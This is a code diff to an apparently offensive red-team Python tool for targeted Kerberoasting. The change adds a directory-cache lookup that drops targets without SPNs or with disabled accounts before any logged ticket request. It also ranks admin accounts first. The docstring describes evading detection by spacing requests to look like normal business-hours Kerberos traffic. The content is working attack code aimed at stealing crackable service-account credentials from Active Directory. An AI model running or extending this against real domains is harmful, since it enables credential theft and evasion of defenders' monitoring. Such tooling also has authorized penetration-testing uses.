@@ -5,7 +5,9 @@ Instead of roasting every SPN (noisy), this targets specific
 high-value accounts with random delays between requests.
 
 OPSEC: Fewer TGS requests, spread over time, looks like
-normal Kerberos traffic during business hours.
+normal Kerberos traffic during business hours. With the shared directory
+cache, targets without an SPN or with a disabled account are dropped
+before any TGS request is made.
 """
 
 import time
@@ -16,6 +18,12 @@ from typing import Dict, List, Optional, Tuple
 from ..utils.impacket_runner import ImpacketRunner
 from ..utils.rubeus_commands import RubeusCommandGenerator
 
+try:
+    from rt_directory_cache import ACCOUNTDISABLE, attr_value, attr_values
+except ImportError:
+    # Shared cache package in 14-ad-enumeration/ (only needed with a cache)
+    ACCOUNTDISABLE = attr_value = attr_values = None
+
 
 class TargetedKerberoast:
     """
@@ -30,6 +38,7 @@ class TargetedKerberoast:
         password: str = "",
         dc_ip: str = "",
         ntlm_hash: str = "",
+        cache=None,
     ):
         self.domain = domain
         self.username = username
@@ -37,6 +46,11 @@ class TargetedKerberoast:
         self.dc_ip = dc_ip
         self.ntlm_hash = ntlm_hash
 
+        # rt_directory_cache.DirectoryCache, read only: kept current by the
+        # AD enumeration / Kerberoast frameworks
+        self.cache = cache
+        self._accounts: Optional[Dict[str, dict]] = None
+
         self.runner = ImpacketRunner(domain, username, password, dc_ip, ntlm_hash)
         self.rubeus = RubeusCommandGenerator()
 
@@ -68,6 +82,7 @@ class TargetedKerberoast:
         print(f"\n{'=' * 60}")
         print("TARGETED KERBEROASTING — SURGICAL MODE")
         print(f"{'=' * 60}")
+        targets = self.screen_targets(targets)
         print(f"[*] Targets: {len(targets)}")
         print(f"[*] Delay: {delay_range[0]}-{delay_range[1]}s between requests")
 
@@ -92,6 +107,51 @@ class TargetedKerberoast:
         self._print_summary(results, targets, all_hashes)
         return results
 
+    def _cached_accounts(self) -> Dict[str, dict]:
+        """Cached user entries by lowercase sAMAccountName (empty without a cache)"""
+        if self.cache is None or not self.cache.has(self.domain, "users"):
+            return {}
+        if self._accounts is None:
+            self._accounts = {
+                str(attr_value(attributes, "sAMAccountName")).lower(): attributes
+                for _, attributes in self.cache.sync(self.domain, "users")
+            }
+        return self._accounts
+
+    def screen_targets(self, targets: List[str]) -> List[str]:
+        """
+        Drop targets the directory cache shows cannot be roasted (no SPN,
+        disabled account): each one would be a wasted, logged TGS request.
+
+        Targets missing from the cache are kept.
+        """
+        accounts = self._cached_accounts()
+        if not accounts:
+            return targets
+
+        kept = []
+        for target in targets:
+            attributes = accounts.get(target.lower())
+            if attributes is None:
+                print(f"[!] {target}: not in directory cache, keeping")
+            elif not attr_values(attributes, "servicePrincipalName"):
+                print(f"[-] {target}: no SPN, skipping")
+            elif int(str(attr_value(attributes, "userAccountControl", 0))) & ACCOUNTDISABLE:
+                print(f"[-] {target}: account disabled, skipping")
+            else:
+                kept.append(target)
+        return kept
+
+    def cached_targets(self) -> List[str]:
+        """Enabled accounts with SPNs from the directory cache, adminCount=1 first"""
+        targets = []
+        for attributes in self._cached_accounts().values():
+            uac = int(str(attr_value(attributes, "userAccountControl", 0)))
+            if attr_values(attributes, "servicePrincipalName") and not uac & ACCOUNTDISABLE:
+                is_admin = str(attr_value(attributes, "adminCount", 0)) == "1"
+                targets.append((not is_admin, str(attr_value(attributes, "sAMAccountName"))))
+        return [name for _, name in sorted(targets)]
+
     def print_rubeus_commands(self, targets: List[str]):
         """Convenience wrapper to generate Rubeus commands."""
         self.rubeus.print_commands(targets)